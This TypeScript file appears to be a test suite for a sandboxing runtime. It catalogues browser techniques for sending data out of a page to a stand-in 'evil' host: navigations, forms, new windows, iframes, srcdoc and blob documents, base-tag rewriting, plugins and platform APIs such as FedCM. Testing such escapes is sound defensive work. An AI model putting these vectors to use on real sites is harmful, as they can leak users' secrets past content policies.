// Ways out that leave the page: navigations, forms, windows and frames.
import type { Vector } from "../arena/vector.ts";

/** Case 35. */
export const navigations: readonly Vector[] = [
  {
    name: "location",
    alone: true,
    attack: ({ http }) => {
      location.href = `${http}/?secret`;
    },
  },
  { name: "location.replace", alone: true, attack: ({ http }) => location.replace(`${http}/?secret`) },
  {
    name: "meta refresh",
    alone: true,
    attack: ({ http }) =>
      document.head.insertAdjacentHTML("beforeend", `<meta http-equiv=refresh content="0;url=${http}/?secret">`),
  },
  {
    name: "click on a link",
    alone: true,
    attack: ({ http }) => {
      const link = document.createElement("a");
      link.href = `${http}/?secret`;
      // Not in the document, where the runtime would hold it.
      link.dispatchEvent(new MouseEvent("click", { bubbles: false, cancelable: true }));
    },
  },
  {
    name: "click on an SVG link",
    alone: true,
    attack: ({ http }) => {
      const link = document.createElementNS("http://www.w3.org/2000/svg", "a");
      link.setAttribute("href", `${http}/?secret`);
      document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg")).append(link);
      link.addEventListener("click", (event) => event.stopImmediatePropagation());
      link.dispatchEvent(new MouseEvent("click", { bubbles: false }));
    },
  },
  {
    name: "navigation.navigate",
    alone: true,
    needs: () => "navigation" in window,
    attack: ({ http }) => void (window as any).navigation.navigate(`${http}/?secret`),
  },
];

/** Case 36. */
export const links: readonly Vector[] = [
  {
    name: "ping",
    alone: true,
    silent: "Firefox has it switched off",
    attack: ({ http }) => {
      const link = document.createElement("a");
      link.href = "#here";
      link.setAttribute("ping", `${http}/?secret`);
      document.body.append(link);
      link.click();
    },
  },
  {
    name: "download",
    alone: true,
    attack: ({ http }) => {
      const link = document.createElement("a");
      link.href = `${http}/a.bin?secret`;
      link.download = "a.bin";
      link.dispatchEvent(new MouseEvent("click", { bubbles: false, cancelable: true }));
    },
  },
];

const form = (name: string, attributes: string, submit = "form.submit()"): Vector => ({
  name,
  alone: true,
  attack: new Function(
    "evil",
    `document.body.insertAdjacentHTML("beforeend", '<form ${attributes}><input name=secret value=1><button></button></form>'.replaceAll("EVIL", evil.http));
     const form = document.forms[document.forms.length - 1];
     ${submit};`,
  ) as Vector["attack"],
});

/** Case 37. */
export const forms: readonly Vector[] = [
  form("form GET", "action=EVIL/"),
  form("form POST", "method=post action=EVIL/", "form.requestSubmit()"),
  form("form into a new window", "target=_blank action=EVIL/"),
  form("form by formaction", "action=EVIL/", "form.querySelector('button').setAttribute('formaction', evil.http + '/'); form.querySelector('button').click()"),
  form("form into the whole tab", "target=_top action=EVIL/"),
];

function pressed(type: string, how: string, elements: readonly string[] = ["a"]): Vector[] {
  return elements.map((element) => ({
    name: `${type} with ${how} on ${element}`,
    alone: "control",
    silent: "the browser does nothing at a made-up click of this kind, with or without our headers",
    attack: new Function(
      "evil",
      `const svg = ${JSON.stringify(element)} === "svg a";
       const link = svg ? document.createElementNS("http://www.w3.org/2000/svg", "a") : document.createElement(${JSON.stringify(element)});
       link.setAttribute("href", evil.http + "/?secret");
       if (svg) document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg")).append(link);
       link.dispatchEvent(new PointerEvent(${JSON.stringify(type)}, { bubbles: false, cancelable: true, ${how} }));`,
    ) as Vector["attack"],
  }));
}

/** Case 38. */
export const windows: readonly Vector[] = [
  // Alone, because the host page asks then, over the app.
  { name: "window.open", alone: true, attack: ({ http }) => void window.open(`${http}/?secret`) },
  {
    name: "window.open of a nested frame",
    alone: "control",
    // The runtime replaces `open` in the app's own window only.
    attack: ({ http }) => {
      const frame = document.body.appendChild(document.createElement("iframe"));
      const open = (frame.contentWindow as Window).open;
      open.call(window, `${http}/?secret`);
    },
  },
  {
    name: "link into a new window",
    alone: "control",
    attack: ({ http }) => {
      const link = document.createElement("a");
      link.href = `${http}/?secret`;
      link.target = "_blank";
      link.dispatchEvent(new MouseEvent("click", { bubbles: false, cancelable: true }));
    },
  },
  {
    name: "link into a new window without opener",
    alone: "control",
    attack: ({ http }) => {
      const link = document.createElement("a");
      link.href = `${http}/?secret`;
      link.target = "_blank";
      link.rel = "noopener noreferrer";
      link.dispatchEvent(new MouseEvent("click", { bubbles: false, cancelable: true }));
    },
  },
  // What a person does to open a link in another tab, done by script.
  ...pressed("click", "ctrlKey: true", ["a", "svg a", "area"]),
  ...pressed("click", "metaKey: true"),
  ...pressed("click", "shiftKey: true", ["a", "svg a", "area"]),
  ...pressed("click", "altKey: true"),
  ...pressed("click", "button: 1"),
  ...pressed("auxclick", "button: 1"),
];

/** Case 39. */
export const frames: readonly Vector[] = [
  {
    name: "iframe",
    attack: ({ http }) => {
      document.body.appendChild(document.createElement("iframe")).src = `${http}/?secret`;
    },
  },
  {
    name: "iframe navigated later",
    attack: ({ http }) => {
      const frame = document.body.appendChild(document.createElement("iframe"));
      (frame.contentWindow as Window).location = `${http}/?secret`;
    },
  },
  {
    name: "link into a nested frame",
    attack: ({ http, tag }) => {
      document.body.appendChild(document.createElement("iframe")).name = tag;
      const link = document.createElement("a");
      link.href = `${http}/?secret`;
      link.target = tag;
      link.dispatchEvent(new MouseEvent("click", { bubbles: false, cancelable: true }));
    },
  },
  {
    name: "frame set",
    attack: ({ http }) => {
      const set = document.createElement("frameset");
      const frame = document.createElement("frame");
      frame.src = `${http}/?secret`;
      set.append(frame);
      document.documentElement.append(set);
    },
  },
];

/** Case 40. */
export const documents: readonly Vector[] = [
  {
    name: "srcdoc with an image",
    attack: ({ http }) => {
      document.body.appendChild(document.createElement("iframe")).srcdoc = `<img src="${http}/a.png">`;
    },
  },
  {
    name: "srcdoc with a refresh",
    attack: ({ http }) => {
      document.body.appendChild(document.createElement("iframe")).srcdoc =
        `<meta http-equiv=refresh content="0;url=${http}/?secret">`;
    },
  },
  {
    name: "srcdoc with a script",
    attack: ({ http }) => {
      document.body.appendChild(document.createElement("iframe")).srcdoc =
        `<script>new Image().src = "${http}/a.png"</script>`;
    },
  },
  {
    name: "blob document",
    attack: ({ http }) => {
      const blob = new Blob([`<img src="${http}/a.png"><script>fetch("${http}/")</script>`], { type: "text/html" });
      document.body.appendChild(document.createElement("iframe")).src = URL.createObjectURL(blob);
    },
  },
  {
    name: "data document",
    attack: ({ http }) => {
      document.body.appendChild(document.createElement("iframe")).src = `data:text/html,<img src="${http}/a.png">`;
    },
  },
  {
    name: "javascript document",
    attack: ({ http }) => {
      document.body.appendChild(document.createElement("iframe")).src =
        `javascript:'<img src="${http}/a.png">'`;
    },
  },
  {
    name: "document written into a frame",
    attack: ({ http }) => {
      const frame = document.body.appendChild(document.createElement("iframe"));
      frame.contentDocument?.write(`<img src="${http}/a.png">`);
    },
  },
  {
    name: "the app's own window as a blob document",
    alone: true,
    attack: ({ http }) => {
      const blob = new Blob([`<img src="${http}/a.png"><script>fetch("${http}/")</script>`], { type: "text/html" });
      location.href = URL.createObjectURL(blob);
    },
  },
];

/** Case 45. */
export const rewritten: readonly Vector[] = [
  {
    name: "base address",
    alone: true,
    attack: ({ http }) => {
      document.head.insertAdjacentHTML("afterbegin", `<base href="${http}/">`);
      document.body.insertAdjacentHTML("beforeend", '<img src="a.png">');
    },
  },
  {
    name: "document.write",
    alone: true,
    attack: ({ http }) => {
      document.open();
      document.write(`<!doctype html><base href="${http}/"><img src="a.png"><script src="a.js"></script>`);
      document.close();
    },
  },
  {
    name: "policy element removed, then an image",
    attack: ({ http }) => {
      for (const meta of document.querySelectorAll("meta[http-equiv]")) meta.remove();
      new Image().src = `${http}/a.png`;
    },
  },
];

/** Case 46. */
export const plugins: readonly Vector[] = [
  { name: "object", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<object data="${http}/a.html"></object>`) },
  { name: "embed", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<embed src="${http}/a.html">`) },
  { name: "SVG object", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<object type="image/svg+xml" data="${http}/a.svg"></object>`) },
];

/** Case 47. */
export const platform: readonly Vector[] = [
  {
    name: "FedCM",
    alone: true,
    needs: () => "IdentityCredential" in window,
    attack: ({ https }) =>
      void (navigator.credentials as any)
        .get({ identity: { providers: [{ configURL: `${https}/a.json`, clientId: "x" }] } })
        .catch(() => {}),
  },
  {
    name: "payment",
    alone: true,
    needs: () => "PaymentRequest" in window,
    attack: ({ https }) =>
      void new (window as any).PaymentRequest([{ supportedMethods: `${https}/pay` }], {
        total: { label: "x", amount: { currency: "EUR", value: "1" } },
      })
        .show()
        .catch(() => {}),
  },
  {
    name: "attribution",
    alone: true,
    silent: "Chromium registers only with enrolled sites, and the evil one is not",
    needs: () => "attributionSrc" in HTMLImageElement.prototype,
    attack: ({ https }) => document.body.insertAdjacentHTML("beforeend", `<img attributionsrc="${https}/?secret">`),
  },
];
